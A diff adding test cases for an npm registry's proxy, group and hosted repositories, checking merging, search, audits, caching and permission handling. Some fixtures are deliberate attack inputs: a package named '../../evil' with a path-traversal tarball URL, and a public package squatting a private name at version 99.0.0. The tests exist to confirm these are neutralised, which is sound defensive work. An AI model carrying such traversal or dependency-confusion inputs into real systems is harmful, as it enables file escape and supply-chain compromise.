+  it('serves a hostile upstream document sanely', async () => {
+    up.docs.set('weird', { name: '../../evil', 'dist-tags': { latest: '1.0.0', x: 'nope' }, versions: { '1.0.0': { dist: { tarball: `${up.upstream.base}weird/-/..%2fescape.tgz`, shasum: 'ab'.repeat(20) } }, bad: 7 } });
+    const answer = await r.request('proxy', { path: '/weird', headers: { accept: ABBREVIATED } });
+    expect(answer.status).toBe(200);
+    expect(Object.keys(answer.json.versions)).toEqual(['1.0.0']);
+    expect(answer.json.versions['1.0.0'].dist.tarball).toBe(`${HOST}/proxy/weird/-/weird-1.0.0.tgz`);
+    expect(answer.json['dist-tags']).toEqual({ latest: '1.0.0' });
+    up.docs.set('not-json', 'this is not json' as never);
+    up.upstream.handler = ((inner) => (path: string, method: string) => (path === 'not-json' ? { status: 200, body: '{oops' } : inner(path, method)))(up.upstream.handler);
+    expect((await r.request('proxy', { path: '/not-json' })).status).toBe(502);
+  });
+
+  it('refuses writes', async () => {
+    const answer = await publish(r, 'proxy', 'pub', '2.0.0');
+    expect(answer.status).toBe(405);
+    expect((await r.request('proxy', { method: 'PUT', path: '/-/package/pub/dist-tags/beta', user: alice, body: '1.0.0' })).status).toBe(405);
+  });
+
+  it('passes search to the upstream; no upstream search is an empty result', async () => {
+    up.upstream.handler = ((inner) => (path: string, method: string): UpstreamAnswer =>
+      path.startsWith('-/v1/search') ? { status: 200, body: { objects: [{ package: { name: 'pub' } }], total: 1, time: 'now' } } : inner(path, method))(up.upstream.handler);
+    const found = await r.request('proxy', { path: '/-/v1/search?text=pub&size=500' });
+    expect(found.json).toMatchObject({ objects: [{ package: { name: 'pub' } }], total: 1 });
+    expect(up.upstream.requests.at(-1)).toBe(`GET -/v1/search?text=pub&size=${r.maxSearchResults}&from=0`);
+    up.upstream.handler = () => ({ status: 404 });
+    expect((await r.request('proxy', { path: '/-/v1/search?text=pub' })).json).toMatchObject({ objects: [], total: 0 });
+    up.upstream.down = true;
+    expect((await r.request('proxy', { path: '/-/v1/search?text=pub' })).json).toMatchObject({ objects: [], total: 0 });
+  });
+
+  it('passes audits upstream; a failing upstream is "no advisories"', async () => {
+    up.upstream.handler = (path: string, method: string, body?: Buffer) =>
+      method === 'POST' && path === '-/npm/v1/security/advisories/bulk' ? { status: 200, body: { pub: [{ id: 1, body: body?.toString() }] } } : { status: 404 };
+    const audit = await r.request('proxy', { method: 'POST', path: '/-/npm/v1/security/advisories/bulk', body: Buffer.from('{"pub":["1.0.0"]}'), headers: { 'content-type': 'application/json' } });
+    expect(audit.json).toEqual({ pub: [{ id: 1, body: '{"pub":["1.0.0"]}' }] });
+    expect((await r.request('group', { method: 'POST', path: '/-/npm/v1/security/advisories/bulk', body: Buffer.from('{}') })).json).toHaveProperty('pub');
+    expect((await r.request('local', { method: 'POST', path: '/-/npm/v1/security/advisories/bulk', body: Buffer.from('{}') })).json).toEqual({});
+    up.upstream.down = true;
+    expect((await r.request('proxy', { method: 'POST', path: '/-/npm/v1/security/audits/quick', body: Buffer.from('{}') })).json).toEqual({});
+  });
+
+  it('keeps serving the cached document when the upstream is down', async () => {
+    await r.request('proxy', { path: '/pub' });
+    up.upstream.down = true;
+    const stale = await r.request('proxy', { path: '/pub' });
+    expect(stale.status).toBe(200);
+    expect(stale.headers['x-cache']).toBe('STALE');
+  });
+});
+
+describe('group', () => {
+  let r: FakeRegistry;
+  let up: Awaited<ReturnType<typeof upstreamWith>>;
+  beforeEach(async () => {
+    up = await upstreamWith([
+      { name: 'pub', versions: ['1.0.0'] },
+      // a public package squatting a private name, with a tempting higher version
+      { name: 'acme-internal', versions: ['1.0.0', '99.0.0'] },
+    ]);
+    r = registry({ upstream: up.upstream });
+    expect((await publish(r, 'local', 'acme-internal', '1.0.0')).status).toBe(201);
+    expect((await publish(r, 'local', 'private-only', '1.0.0')).status).toBe(201);
+  });
+
+  it('merges members and points tarball URLs at the group', async () => {
+    expect((await publish(r, 'second', 'pub', '0.5.0')).status).toBe(201);
+    r.add('wide', 'group', { members: ['proxy', 'second'] });
+    const answer = await r.request('wide', { path: '/pub', headers: { accept: 'application/json' } });
+    // a hosted member has "pub": the guard keeps the public versions out
+    expect(Object.keys(answer.json.versions)).toEqual(['0.5.0']);
+    const publicOnly = await r.request('group', { path: '/pub', headers: { accept: ABBREVIATED } });
+    expect(publicOnly.contentType).toBe('application/vnd.npm.install-v1+json');
+    expect(publicOnly.json.versions['1.0.0'].dist.tarball).toBe(`${HOST}/group/pub/-/pub-1.0.0.tgz`);
+    const tarball = await r.request('group', { path: '/pub/-/pub-1.0.0.tgz' });
+    expect(tarball.status).toBe(200);
+    expect(tarball.headers).not.toHaveProperty('x-registry-npm-origin');
+    expect((await r.request('group', { path: '/private-only' })).json.versions['1.0.0'].dist.tarball).toBe(`${HOST}/group/private-only/-/private-only-1.0.0.tgz`);
+  });
+
+  it('merges two hosted members: union of versions, first wins, tags from the first having them', async () => {
+    expect((await publish(r, 'second', 'acme-internal', '1.0.0', { extra: { description: 'second copy' } })).status).toBe(201);
+    expect((await publish(r, 'second', 'acme-internal', '2.0.0', { tags: { next: '2.0.0' } })).status).toBe(201);
+    r.add('hosted-pair', 'group', { members: ['local', 'second'] });
+    const doc = (await r.request('hosted-pair', { path: '/acme-internal' })).json;
+    expect(Object.keys(doc.versions).sort()).toEqual(['1.0.0', '2.0.0']);
+    expect(doc.versions['1.0.0'].description).toBe('acme-internal does things');
+    expect(doc['dist-tags']).toEqual({ latest: '1.0.0', next: '2.0.0' });
+  });
+
+  it('guards a private name: only hosted versions, whatever the member order', async () => {
+    for (const group of ['group', 'proxy-first', 'outer']) {
+      const doc = (await r.request(group, { path: '/acme-internal' })).json;
+      expect(Object.keys(doc.versions), group).toEqual(['1.0.0']);
+      expect(doc['dist-tags'], group).toEqual({ latest: '1.0.0' });
+      const { tarball } = await pkg('acme-internal', '1.0.0');
+      const served = await r.request(group, { path: '/acme-internal/-/acme-internal-1.0.0.tgz' });
+      expect(served.status, group).toBe(200);
+      expect(served.bytes.equals(tarball), `${group} serves the hosted tarball`).toBe(true);
+      expect((await r.request(group, { path: '/acme-internal/-/acme-internal-99.0.0.tgz' })).status, group).toBe(404);
+    }
+    // a private name never even reaches the upstream, nested groups included
+    expect(up.upstream.requests.filter((q) => q.includes('acme-internal'))).toEqual([]);
+  });
+
+  it('never asks an upstream about a name a hosted member has', async () => {
+    await r.request('group', { path: '/acme-internal' });
+    await r.request('group', { path: '/acme-internal/-/acme-internal-1.0.0.tgz' });
+    await r.request('group', { path: '/acme-internal/-/acme-internal-99.0.0.tgz' });
+    expect(up.upstream.requests.filter((q) => q.includes('acme-internal'))).toEqual([]);
+  });
+
+  it('fails closed when a hosted member cannot answer', async () => {
+    const local = r.repos.get('local')!;
+    const original = local.documents.get.bind(local.documents);
+    local.documents.get = async () => {
+      throw new Error('database is down');
+    };
+    try {
+      const answer = await r.request('group', { path: '/acme-internal' });
+      expect(answer.status).toBe(502);
+      expect(answer.json.error).toMatch(/local could not answer/);
+    } finally {
+      local.documents.get = original;
+    }
+  });
+
+  it('answers 404 when no member has the package, 502 when none could answer', async () => {
+    expect((await r.request('group', { path: '/nobody-has-this' })).status).toBe(404);
+    up.upstream.down = true;
+    expect((await r.request('group', { path: '/nobody-has-this' })).status).toBe(502);
+    expect((await r.request('group', { path: '/private-only' })).status).toBe(200);
+  });
+
+  it('applies the environment at the group level', async () => {
+    await publish(r, 'local', 'acme-internal', '1.1.0', { tags: { staging: '1.1.0' } });
+    await r.request('local', { method: 'PUT', path: '/-/package/acme-internal/dist-tags/latest', user: alice, body: '1.0.0' });
+    const staged = await r.request('group', { path: '/acme-internal', headers: { 'registry-environment': 'staging', accept: ABBREVIATED } });
+    expect(staged.json['dist-tags'].latest).toBe('1.1.0');
+    expect((await r.request('group', { path: '/acme-internal' })).json['dist-tags'].latest).toBe('1.0.0');
+  });
+
+  it('forwards writes to its first hosted member', async () => {
+    expect((await publish(r, 'group', 'via-group', '1.0.0')).status).toBe(201);
+    expect((await r.request('local', { path: '/via-group' })).status).toBe(200);
+    expect((await r.request('group', { method: 'PUT', path: '/-/package/via-group/dist-tags/beta', user: alice, body: '1.0.0' })).status).toBe(201);
+    expect((await r.request('local', { path: '/-/package/via-group/dist-tags' })).json).toEqual({ latest: '1.0.0', beta: '1.0.0' });
+    // the member still checks the principal's permissions
+    expect((await r.request('group', { method: 'DELETE', path: '/via-group/-rev/x', user: writer })).status).toBe(403);
+    r.add('no-hosted', 'group', { members: ['proxy'] });
+    expect((await publish(r, 'no-hosted', 'x', '1.0.0')).status).toBe(405);
+  });
+
+  it('merges search results, first member wins a name', async () => {
+    up.upstream.handler = ((inner) => (path: string, method: string): UpstreamAnswer =>
+      path.startsWith('-/v1/search') ? { status: 200, body: { objects: [{ package: { name: 'acme-internal', from: 'upstream' } }, { package: { name: 'pub' } }], total: 2 } } : inner(path, method))(
+      up.upstream.handler,
+    );
+    const found = (await r.request('group', { path: '/-/v1/search?text=' })).json;
+    expect(found.objects.map((o: { package: { name: string } }) => o.package.name)).toEqual(['acme-internal', 'private-only', 'pub']);
+    expect(found.objects[0].package.from).toBeUndefined();
+  });
+});
+
+describe('format definition', () => {
+  it('validates its own config keys', () => {
+    const r = new FakeRegistry(npmFormat);
+    expect(() => r.add('bad', 'hosted', { config: { allowUnpublish: 'no' } })).toThrow(/repositories\.bad\.allowUnpublish: must be a boolean/);
+    expect(() => r.add('good', 'hosted', { config: { allowUnpublish: false } })).not.toThrow();
+  });
+
+  it('prints client configuration lines with the nerf-darted token key', () => {
+    const info = { name: 'npm', format: 'npm', type: 'group' as const, url: 'http://localhost:4000/npm/', config: {} };
+    expect(clientConfig(info)).toEqual([
+      'npm config set registry http://localhost:4000/npm/',
+      '.npmrc: //localhost:4000/npm/:_authToken=${NPM_TOKEN}',
+      'npm publish --registry http://localhost:4000/npm/',
+    ]);
+    expect(clientConfig({ ...info, type: 'proxy' })).toHaveLength(2);
+  });
+
+  it('parses dist-tag paths', () => {
+    expect(parseDistTagPath(['@s/q', 'dist-tags', 'beta'])).toMatchObject({ name: { name: '@s/q' }, tag: 'beta' });
+    expect(parseDistTagPath(['@s', 'q', 'dist-tags'])).toMatchObject({ name: { name: '@s/q' }, tag: undefined });
+    expect(parseDistTagPath(['dist-tags', 'dist-tags', 'dist-tags'])).toMatchObject({ name: { name: 'dist-tags' }, tag: 'dist-tags' });
+    expect(statusOf(() => parseDistTagPath(['p', 'tags']))).toBe(404);
+    expect(statusOf(() => parseDistTagPath(['p', 'dist-tags', 'a', 'b']))).toBe(404);
+    expect(statusOf(() => parseDistTagPath(['a/b', 'dist-tags'], '/-/package/a%2fb/dist-tags'))).toBe(400);
+  });
+
+  describe('default upstream', () => {
+    const saved = { path: process.env['PATH'], registry: process.env['npm_config_registry'] };
+    afterEach(() => {
+      process.env['PATH'] = saved.path;
+      if (saved.registry === undefined) delete process.env['npm_config_registry'];
+      else process.env['npm_config_registry'] = saved.registry;
+    });
+
+    it('falls back to npm_config_registry when npm cannot be run', async () => {
+      process.env['PATH'] = '/nonexistent';
+      process.env['npm_config_registry'] = 'http://mirror.invalid/npm';
+      expect(await localNpmRegistry()).toBe('http://mirror.invalid/npm/');
+      process.env['npm_config_registry'] = 'not a url';
+      expect(await localNpmRegistry()).toBeUndefined();
+    });
+  });
+});
+
+describe('fake upstream sanity', () => {
+  it('refuses fetches off the upstream origin (as the kernel does)', async () => {
+    const upstream = new FakeUpstream(() => ({ status: 200, body: 'x' }));
+    const r = registry({ upstream });
+    const cache = r.repos.get('proxy')!.upstream!;
+    await expect(cache.fetch({ path: 'x', upstreamUrl: 'http://elsewhere.invalid/x', kind: 'content' })).rejects.toBeInstanceOf(UpstreamError);
+  });
+});
